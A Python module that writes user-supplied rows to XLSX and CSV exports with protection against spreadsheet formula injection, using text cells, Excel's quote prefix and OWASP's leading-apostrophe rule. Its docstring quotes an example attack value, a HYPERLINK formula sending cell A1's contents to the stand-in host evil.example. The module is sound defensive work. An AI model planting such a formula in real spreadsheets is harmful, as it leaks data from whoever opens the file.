"""Spreadsheet files built from what users typed, safely: no cell is ever read as a formula.

A listing named `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")` must reach an officer's Excel or
LibreOffice as that text, not as a live link. Every export (catalog editions, contract reports, the
annual workbook, the CLI's files) writes its rows through this module:
- XLSX: every string is a text cell (openpyxl would otherwise store a string starting with "=" as a
  formula), shown with Excel's quote prefix so that editing the cell does not turn it into one either;
  characters XML cannot carry (control characters) are dropped instead of failing the whole file.
- CSV: OWASP's CSV-injection rule: a value starting with "=", "+", "-", "@", tab or CR gets a leading
  apostrophe, so a spreadsheet opening the file takes it as text; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet may read as the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value) -> object:
    """A CSV field: None as empty, a string that could start a formula behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """UTF-8 with a byte-order mark (so that Excel shows Vietnamese correctly), every field neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([csv_value(v) for v in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def append_row(sheet: Worksheet, values: Iterable) -> None:
    """Append a row whose strings are text cells, never formulas."""
    cleaned = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
    sheet.append(cleaned)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(FORMULA_START):
                cell.quotePrefix = True
